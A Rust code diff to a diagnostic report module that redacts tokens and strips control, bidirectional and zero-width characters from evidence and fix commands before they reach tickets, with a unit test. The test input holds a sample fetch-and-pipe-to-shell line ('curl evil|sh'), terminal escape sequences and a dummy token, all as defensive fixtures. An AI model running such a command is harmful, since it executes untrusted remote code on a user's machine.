@@ -1,5 +1,6 @@
 //! What a step has found.
 
+use entrakey_core::redacted;
 use serde_json::{Value, json};
 
 /// Whether a step found it as it should be.
@@ -24,6 +25,21 @@ impl Verdict {
     }
 }
 
+/// Text for a report that may go into a ticket: servers, certificates and tokens have a say in it, and may repeat a token or
+/// move a terminal's cursor.
+fn shown(text: &str) -> String {
+    visible(&redacted(text, &[]))
+}
+
+/// Without what is no character: controls, and what turns the text around.
+fn visible(text: &str) -> String {
+    let is_hidden = |c: char| {
+        c.is_control()
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+    };
+    text.chars().map(|c| if is_hidden(c) { '?' } else { c }).collect()
+}
+
 /// What may be wrong, and what mends it.
 #[derive(Clone, Debug, PartialEq, Eq)]
 pub(crate) struct Cause {
@@ -36,11 +52,11 @@ pub(crate) struct Cause {
 
 impl Cause {
     pub(crate) fn new(id: &'static str, text: impl Into<String>) -> Self {
-        Self { id, text: text.into(), mend: Vec::new() }
+        Self { id, text: shown(&text.into()), mend: Vec::new() }
     }
 
     pub(crate) fn mended_by(self, mend: impl IntoIterator<Item = String>) -> Self {
-        Self { mend: mend.into_iter().collect(), ..self }
+        Self { mend: mend.into_iter().map(|command| visible(&command)).collect(), ..self }
     }
 
     fn json(&self) -> Value {
@@ -84,7 +100,7 @@ impl Finding {
 
     /// With more evidence.
     pub(crate) fn seen(mut self, evidence: impl IntoIterator<Item = String>) -> Self {
-        self.evidence.extend(evidence);
+        self.evidence.extend(evidence.into_iter().map(|text| shown(&text)));
         self
     }
 
@@ -102,5 +118,21 @@ impl Finding {
             "causes": list(&self.causes),
             "notes": list(&self.notes),
         })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_others_say_moves_no_cursor_and_repeats_no_token() {
+        let token = "eyJ0eXAiOiJKV1QifQ.eyJvaWQiOiIxIn0.c2lnbmF0dXJl";
+        let said = format!("\u{1b}[2J\r\n  $ curl evil|sh \u{202e} {token}");
+        let finding = Finding::undetermined("auth", said.as_str()).seen([said.clone()]);
+        let cause = Cause::new("odd", said.as_str()).mended_by(["az \u{1b}[1A".to_owned()]);
+        let told = format!("{}{}", finding.noted([cause]).json(), "");
+        assert!(!told.contains(token) && !told.contains("\\u001b") && !told.contains("\\r"), "{told}");
+        assert!(told.contains("[token]") && !told.contains('\u{202e}'), "{told}");
     }
 }
